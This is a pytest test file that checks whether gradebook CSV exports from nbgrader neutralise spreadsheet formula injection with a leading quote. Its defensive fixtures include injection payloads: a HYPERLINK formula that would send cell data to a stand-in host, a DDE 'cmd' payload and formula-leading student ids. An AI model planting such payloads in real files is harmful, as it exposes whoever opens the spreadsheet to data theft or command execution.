"""Grade exports are safe to open in a spreadsheet (course_kit/exporters/spreadsheet_safe.py).

A gradebook whose student ids, names and emails start with what a spreadsheet reads as a formula
(``=1+2*3``, ``@SUM(9+9)``, ``+1``, ``-1``, a tab, a carriage return, full-width ``＝``, a formula behind
spaces) is exported the way the guide says, by the ``nbgrader`` command in a course under the kit's
configuration: plain ``nbgrader export`` (grades.csv) and the Canvas exporter.  Read back with the ``csv``
module, no field may start with a formula character unless neutralised by a leading ``'`` (OWASP's CSV
injection remedy), each neutralised field is the original text behind that quote, and every score is
still a number, the gradebook's.  Stock nbgrader 0.9.6 writes ``=1+2*3`` as it is.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_kit.exporters import spreadsheet_cell
from course_kit.instructor import copy_course

REPO = Path(__file__).resolve().parents[1]
NBGRADER = str(Path(sys.executable).parent / "nbgrader")
# What spreadsheets read as the start of a formula (OWASP CSV Injection, ASVS 1.2.10), and their full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
STUDENTS = {  # id -> (first name, last name, email, score of 7)
    "=1+2*3": ("=HYPERLINK(\"http://evil.example/?\"&A1)", "Smith", "eve@uni.edu", 7.0),
    "@SUM(9+9)": ("Ada", "@SUM(1+1)", "=cmd|' /c calc'!A1", 2.5),
    "+1": ("", "", "", 3.0),
    "-1": ("", "", "", 0.0),
    "\tTAB": ("Tab", "Led", "", 4.0),
    "\rCR": ("", "", "", 5.0),
    "＝1+1": ("", "", "", 6.0),
    "  =2+2": ("", "", "", 1.0),
    "ada": ("Ada", "Lovelace, Countess", "ada@uni.edu", 6.5),  # the honest student beside them
}


def _formula(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def _expected(text: str) -> str:
    """What a text field must be in the export: itself, or itself behind a single quote."""
    return "'" + text if _formula(text) else text


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A course under the kit's configuration whose gradebook holds the students above, ps1 graded.

    nbgrader's Gradebook runs `alembic` by name: the venv's bin/ is put on PATH for this module's tests only
    (set for the whole process, it outlived the module and changed what later modules ran)."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
        yield _build_course(tmp_path_factory)


def _build_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    course_dir = copy_course(REPO, tmp_path_factory.mktemp("exports") / "course", [])
    with Gradebook(f"sqlite:///{course_dir / 'gradebook.db'}", "from_logits") as gb:
        gb.add_assignment("ps1_naive_loss", duedate="2026-10-01 12:00:00")
        gb.add_notebook("nb", "ps1_naive_loss")
        gb.add_grade_cell("test_a", "nb", "ps1_naive_loss", max_score=7, cell_type="code")
        for student, (first, last, email, score) in STUDENTS.items():
            gb.add_student(student, first_name=first, last_name=last, email=email)
            gb.add_submission("ps1_naive_loss", student)
            grade = gb.find_grade("test_a", "nb", "ps1_naive_loss", student)
            grade.auto_score, grade.needs_manual_grade = score, False
        gb.db.commit()
    return course_dir


def _export(course: Path, *options: str) -> None:
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    run = subprocess.run([NBGRADER, "export", *options], cwd=course, env=env, capture_output=True, text=True,
                         timeout=300)
    assert run.returncode == 0, run.stderr


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _no_formula(rows: list[list[str]], numeric: set[int]) -> None:
    for row in rows:
        for column, field in enumerate(row):
            if column not in numeric:
                assert not _formula(field), f"a spreadsheet runs {field!r} (row {row})"


def test_nbgrader_export_grades_csv_is_safe(course: Path) -> None:
    _export(course)  # the README's and the guide's plain command: the course's default exporter
    header, *rows = _read(course / "grades.csv")
    numeric = {header.index(c) for c in ("raw_score", "late_submission_penalty", "score", "max_score")}
    _no_formula(rows, numeric)
    by_id = {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_id) == {_expected(student) for student in STUDENTS}, sorted(by_id)
    for student, (first, last, email, score) in STUDENTS.items():
        row = by_id[_expected(student)]
        assert (row["first_name"], row["last_name"], row["email"]) == tuple(map(_expected, (first, last, email)))
        assert float(row["score"]) == float(row["raw_score"]) == score, row  # numbers stay numbers
        assert float(row["max_score"]) == 7.0 and float(row["late_submission_penalty"]) == 0.0


def test_canvas_export_is_safe(course: Path) -> None:
    _export(course, "--exporter=course_kit.exporters.CanvasExportPlugin", "--to=canvas_grades.csv")
    header, points, *rows = _read(course / "canvas_grades.csv")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ps1_naive_loss",
                      "ps1_naive_loss seconds late"]  # it has a due date
    _no_formula([header, points, *rows], numeric={5})
    by_login = {row[3]: row for row in rows}
    assert set(by_login) == {_expected(student) for student in STUDENTS}, sorted(by_login)
    for student, (first, last, _, score) in STUDENTS.items():
        row = by_login[_expected(student)]
        name = f"{last}, {first}" if first and last else (first or last or student)
        assert row[0] == _expected(name), row
        assert float(row[5]) == score, row  # numbers stay numbers


def test_numbers_are_not_text() -> None:
    """A negative score is a number, not a formula; anything that is not a number is text."""
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(-2) == -2
    assert spreadsheet_cell("-1.5") == "'-1.5" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "True"
